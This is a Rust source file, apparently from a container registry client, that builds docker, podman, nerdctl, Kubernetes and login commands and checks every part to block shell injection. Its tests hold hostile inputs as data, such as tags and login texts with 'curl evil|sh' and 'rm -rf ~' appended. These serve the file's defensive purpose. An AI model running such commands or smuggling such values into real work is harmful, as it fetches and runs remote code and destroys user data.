//! Pull commands and image references for the current tag.

use super::digest::Digest;
use super::rows::TagRow;
use crate::swr::validate;

/// The variants the pull-command menu offers, in menu order.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PullKind {
    Docker,
    Podman,
    Nerdctl,
    Digest,
    Internal,
    Kubernetes,
}

impl PullKind {
    pub const ALL: [PullKind; 6] = [
        Self::Docker,
        Self::Podman,
        Self::Nerdctl,
        Self::Digest,
        Self::Internal,
        Self::Kubernetes,
    ];

    pub fn label(self) -> &'static str {
        match self {
            Self::Docker => "docker pull",
            Self::Podman => "podman pull",
            Self::Nerdctl => "nerdctl pull",
            Self::Digest => "docker pull by digest",
            Self::Internal => "docker pull, internal address",
            Self::Kubernetes => "Kubernetes image: line",
        }
    }
}

/// Where the image lives: the profile's registry host, the organization, repository and tag.
pub struct ImageRef<'a> {
    pub registry: &'a str,
    pub org: &'a str,
    pub repo: &'a str,
    pub tag: &'a TagRow,
}

impl ImageRef<'_> {
    /// The profile's registry host: a server does not choose where the user pulls from.
    fn registry(&self) -> &str {
        self.registry
    }

    /// Whether every part is a name the service could have made: the text goes into a shell,
    /// and a server must not be able to put a command there.
    pub fn check(&self) -> Result<(), String> {
        if !valid_host(self.registry) {
            return Err(format!("{:?} is not a registry host name", self.registry));
        }
        validate::namespace_name(self.org)?;
        validate::repository_name(self.repo)?;
        validate::tag_name(self.tag.raw())
    }

    /// `<registry>/<org>/<repo>:<tag>`
    pub fn by_tag(&self) -> String {
        format!(
            "{}/{}/{}:{}",
            self.registry(),
            self.org,
            self.repo,
            self.tag.raw()
        )
    }

    /// `<registry>/<org>/<repo>@sha256:…`, when the digest is one.
    pub fn by_digest(&self) -> Option<String> {
        matches!(self.tag.digest, Digest::Sha256(_)).then(|| {
            format!(
                "{}/{}/{}@{}",
                self.registry(),
                self.org,
                self.repo,
                self.tag.digest
            )
        })
    }

    /// The address cloud clusters pull from, when the service names one in a private network.
    pub fn internal(&self) -> Option<String> {
        let host = self.tag.hosts.internal.as_deref()?;
        Some(format!(
            "{host}/{}/{}:{}",
            self.org, self.repo, self.tag.tag
        ))
    }

    /// The command to copy, once [`ImageRef::check`] passes and the kind has what it needs.
    pub fn copyable(&self, kind: PullKind) -> Result<String, String> {
        self.check()?;
        if kind == PullKind::Digest && self.by_digest().is_none() {
            return Err(format!("{} has no sha256 digest to pull by", self.tag.tag));
        }
        Ok(self.command(kind))
    }

    pub fn command(&self, kind: PullKind) -> String {
        let pull = |address: String| format!("docker pull {address}");
        match kind {
            PullKind::Docker => pull(self.by_tag()),
            PullKind::Podman => format!("podman pull {}", self.by_tag()),
            PullKind::Nerdctl => format!("nerdctl pull {}", self.by_tag()),
            PullKind::Digest => pull(self.by_digest().unwrap_or_else(|| self.by_tag())),
            PullKind::Internal => pull(self.internal().unwrap_or_else(|| self.by_tag())),
            PullKind::Kubernetes => format!("image: {}", self.by_tag()),
        }
    }
}

/// A host name or address with an optional port: what may stand before the first `/` of an
/// image address in a command the user pastes into a shell.
pub fn valid_host(host: &str) -> bool {
    !host.is_empty()
        && host.len() <= 253
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'[' | b']'))
}

/// The temporary login command: the user and password of the service's `docker login` text,
/// each checked to be one plain word, and the profile's registry host. Anything else is
/// refused: this text is pasted into a shell.
pub fn login_command(service_text: &str, registry: &str) -> Result<String, String> {
    let plain = |w: &str| {
        !w.is_empty()
            && w.len() <= 4096
            && w.bytes().all(|b| {
                b.is_ascii_alphanumeric()
                    || matches!(b, b'@' | b'.' | b'_' | b'+' | b'/' | b'=' | b':' | b'-')
            })
    };
    let words: Vec<&str> = service_text.split(' ').collect();
    match words.as_slice() {
        ["docker", "login", "-u", user, "-p", password]
            if plain(user) && plain(password) && valid_host(registry) =>
        {
            Ok(format!("docker login -u {user} -p {password} {registry}"))
        }
        _ => Err("the service's login text is not a plain docker login -u USER -p PASSWORD".into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::swr::model::Tag;

    fn tag(path: &str) -> TagRow {
        TagRow::from(Tag {
            tag: "1.0".into(),
            digest: format!("sha256:{}", "ab".repeat(32)),
            path: path.into(),
            internal_path: "10.125.0.198:20202/demo/team/web:1.0".into(),
            ..Tag::default()
        })
    }

    #[test]
    fn commands_for_every_kind_use_the_profiles_registry() {
        // The tag's path names another registry: the command still goes to the profile's.
        let t = tag("swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0");
        let r = ImageRef {
            registry: "swr.cn-north-4.myhuaweicloud.com",
            org: "demo",
            repo: "team/web",
            tag: &t,
        };
        let all: Vec<String> = PullKind::ALL.iter().map(|&k| r.command(k)).collect();
        assert_eq!(
            all,
            [
                "docker pull swr.cn-north-4.myhuaweicloud.com/demo/team/web:1.0",
                "podman pull swr.cn-north-4.myhuaweicloud.com/demo/team/web:1.0",
                "nerdctl pull swr.cn-north-4.myhuaweicloud.com/demo/team/web:1.0",
                &format!(
                    "docker pull swr.cn-north-4.myhuaweicloud.com/demo/team/web@sha256:{}",
                    "ab".repeat(32)
                ),
                "docker pull 10.125.0.198:20202/demo/team/web:1.0",
                "image: swr.cn-north-4.myhuaweicloud.com/demo/team/web:1.0",
            ]
        );
    }

    #[test]
    fn falls_back_to_the_profile_registry() {
        let t = tag("");
        let r = ImageRef {
            registry: "swr.cn-north-4.myhuaweicloud.com",
            org: "demo",
            repo: "nginx",
            tag: &t,
        };
        assert_eq!(
            r.command(PullKind::Docker),
            "docker pull swr.cn-north-4.myhuaweicloud.com/demo/nginx:1.0"
        );
    }

    #[test]
    fn names_a_server_made_up_are_never_copied() {
        let mut t = tag("swr.cn-north-4.myhuaweicloud.com/demo/web:1.0");
        let r = |t: &TagRow| {
            ImageRef {
                registry: "swr.cn-north-4.myhuaweicloud.com",
                org: "demo",
                repo: "web",
                tag: t,
            }
            .copyable(PullKind::Docker)
        };
        assert!(r(&t).is_ok());
        t.tag = "1.0;curl evil|sh".into();
        assert!(r(&t).unwrap_err().contains("must not contain"));
        // An internal address is offered only where it is a private network's.
        let internal = |address: &str| {
            TagRow::from(Tag {
                tag: "1.0".into(),
                internal_path: address.into(),
                ..Tag::default()
            })
            .hosts
            .internal
            .clone()
        };
        assert_eq!(
            internal("10.125.0.198:20202/demo/web:1.0").as_deref(),
            Some("10.125.0.198:20202")
        );
        assert_eq!(internal("evil.example:443/demo/web:1.0"), None);
        assert_eq!(internal("8.8.8.8:5000/demo/web:1.0"), None);
        assert_eq!(internal("10.0.0.1;rm -rf ~/demo/web:1.0"), None);
        assert!(
            ImageRef {
                registry: "swr.example;rm -rf ~",
                org: "demo",
                repo: "web",
                tag: &t,
            }
            .copyable(PullKind::Docker)
            .is_err(),
            "a profile's registry is checked too"
        );
        let no_digest = TagRow::from(Tag {
            tag: "1.0".into(),
            digest: "sha256:short".into(),
            ..Tag::default()
        });
        let by_digest = ImageRef {
            registry: "swr.cn-north-4.myhuaweicloud.com",
            org: "demo",
            repo: "web",
            tag: &no_digest,
        }
        .copyable(PullKind::Digest);
        assert!(by_digest.unwrap_err().contains("no sha256 digest"));
    }

    #[test]
    fn login_commands_are_built_from_checked_words_and_the_profiles_registry() {
        let registry = "swr.cn-north-4.myhuaweicloud.com";
        assert_eq!(
            login_command("docker login -u cn-north-4@AK0 -p 0a1b2c", registry).unwrap(),
            "docker login -u cn-north-4@AK0 -p 0a1b2c swr.cn-north-4.myhuaweicloud.com"
        );
        for hostile in [
            "docker login -u x -p y; rm -rf ~",
            "docker login -u x -p y\n",
            "docker login -u x -p \x1b[2Jy",
            "curl evil | sh",
            "docker login -u x -p y --password-stdin",
        ] {
            assert!(login_command(hostile, registry).is_err(), "{hostile:?}");
        }
        assert!(login_command("docker login -u x -p y", "evil host").is_err());
    }
}
